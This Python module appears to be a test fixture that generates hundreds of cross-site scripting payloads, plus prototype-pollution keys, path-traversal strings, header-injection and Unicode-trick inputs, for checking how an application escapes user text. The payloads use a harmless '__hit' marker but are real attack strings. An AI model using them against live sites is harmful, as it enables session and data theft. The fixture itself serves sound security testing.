"""What somebody would write into a name, a note or a value so that it runs in the browser of whoever looks at it.

Each sets `__hit` when it runs, asks for something of another site, or is a word that JavaScript gives a meaning to.
"""

from __future__ import annotations

_RUN = ("__hit=1", "window.__hit=1", "self['__hit']=1", "top.__hit=1", "alert(1)")
_HANDLERS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onstart", "onanimationstart",
    "onpointerenter", "onwheel", "oninput", "onbeforetoggle", "oncontentvisibilityautostatechange",
)  # fmt: skip
_HOSTS = (
    "<img src=x {on}={js}>", "<svg {on}={js}>", "<body {on}={js}>", "<input autofocus {on}={js}>",
    "<details open {on}={js}>", "<video src=x {on}={js}>", "<b tabindex=1 autofocus {on}={js}>",
    "<svg><animate {on}={js} attributeName=x dur=1s>", '"><img src=x {on}="{js}">', "'><img/src=x/{on}={js}>",
)  # fmt: skip
_WHOLE = (
    "<script>{js}</script>", "<ScRiPt>{js}</sCrIpT>", "<script/x>{js}</script>", "</script><script>{js}</script>",
    "<script src=http://127.0.0.1:9/x.js></script>", "<script>{js}//", "<<script>{js}//<</script>",
    "</textarea><script>{js}</script>", "</title><script>{js}</script>", "<!--><script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>", "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<iframe src=javascript:{js}>", '<iframe srcdoc="<script>parent.{js}</script>">', "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>", "<form action=javascript:{js}><button>x</form>", "<base href=javascript:{js}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>", "<a href=javascript:{js}>x</a>",
    "<svg><script>{js}</script></svg>", "<svg><a xlink:href=javascript:{js}><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={js} />#x'></svg>", "<math href=javascript:{js}>x</math>",
    "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>",
    "<math><mtext><style><img src=x onerror={js}></style></mtext></math>", "<template><img src=x onerror={js}></template>",
    "<div style=background:url(javascript:{js})>x</div>", "<style>@import 'http://127.0.0.1:9/x.css';</style>{js}",
    "<style>*{{background:url(http://127.0.0.1:9/{js})}}</style>", "<link rel=stylesheet href=http://127.0.0.1:9/x>{js}",
    "<div style=\"width:expression({js})\">x</div>", "<x style=animation-name:x onanimationstart={js}>",
    "javascript:{js}", "JaVaScRiPt:{js}", " javascript:{js}", "java\tscript:{js}", "javascript://%0a{js}",
    "javascript&colon;{js}", "data:text/html,<script>{js}</script>", "data:text/html;base64,PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+{js}",
    "data:image/svg+xml,<svg onload={js}>", "vbscript:{js}", "blob:null/{js}", "view-source:{js}", "//127.0.0.1:9/{js}",
    "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "#{{{js}}}", "<%= {js} %>", "{{{{={js}}}}}", "[[{js}]]", "@({js})",
    "{{% raw %}}{js}", "`-{js}-`", "'-{js}-'", '"-{js}-"', "\\'-{js}//", "\\\"-{js}//", "');{js}//", '");{js}//', "*/{js}/*",
    "]]>{js}", "--!>{js}", "&lt;script&gt;{js}&lt;/script&gt;", "&#60;script&#62;{js}&#60;/script&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "%3Cscript%3E{js}%3C/script%3E", "%253Cscript%253E{js}",
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e", "\u2039script\u203a{js}", "+ADw-script+AD4-{js}", "\x3cimg src=x\x0conerror={js}>",
    "<img src=x onerror\u00a0={js}>", "<img\u2003src=x onerror={js}>", "<scr\u200bipt>{js}</script>", "<s\u0307cript>{js}</script>",
    "<\u017fcript>{js}</script>", "\ufeff<script>{js}</script>", "\u202e<script>{js}</script>", "\u2066<img src=x onerror={js}>\u2069",
    "<script>{js}\u2028</script>", "[x](javascript:{js})", "![x](x\"onerror=\"{js})", "<http://x/onerror={js}>", "`````html\n<img src=x onerror={js}>",
    "=HYPERLINK(\"javascript:{js}\")", "\r\nSet-Cookie: a=1\r\n\r\n<script>{js}</script>", "<?xml-stylesheet href=javascript:{js} ?>",
    "<!DOCTYPE x [<!ENTITY x SYSTEM 'javascript:{js}'>]>&x;", "<button popovertarget=x onbeforetoggle={js}>x</button>",
)  # fmt: skip
WORDS = (
    "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "isPrototypeOf",
    "then", "toJSON", "$$typeof", "dangerouslySetInnerHTML", "ref", "key", "children", "className", "innerHTML", "length",
    "undefined", "null", "NaN", "[object Object]", "true", "0", "-0", "1e999", "__hit",
)  # fmt: skip
_SHAPES = (
    "\x00<script>__hit=1</script>", "a\x00b", "\u202egnp.exe", "\u202d\u202e\u2066\u2067" * 20 + "x", "e" + "\u0301" * 200,
    "\U0001f9ec" * 60, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30, "W" * 250, "<" * 250, "A " * 120,
    "\u0627\u0644\u0633\u0644\u0627\u0645 <b>x</b>", "\ufdfd" * 40, "\u200b\u200c\u200d\u2060x", "\\\\127.0.0.1\\x", "../../../etc/passwd",
    "%00", "%2e%2e%2f", "a\u0000", "\ud7ff\ue000\ufffd\uffff", "\x1b[31mred\x1b[0m", "\x07\x08\x7f",
)  # fmt: skip


def _all() -> list[str]:
    made = [host.format(on=on, js=_RUN[0]) for host in _HOSTS for on in _HANDLERS]
    made += [text.format(js=js) for text in _WHOLE for js in _RUN[:2]]
    made += [text.format(js=js) for text in _WHOLE[:8] for js in _RUN[2:]]
    return list(dict.fromkeys([*WORDS, *_SHAPES, *made]))


PAYLOADS: list[str] = _all()


def fit(most: int, *, without: str = "", printable: bool = False) -> list[str]:
    """Give all payloads in the form in which a place takes them: cut, without some signs, without what is not seen."""
    fits = []
    for text in PAYLOADS:
        kept = "".join(c for c in text if c != "\x00" and c not in without and (not printable or c.isprintable()))
        kept = (" ".join(kept.split()) if printable else kept)[:most].strip() or "x"
        fits.append(kept)
    return fits
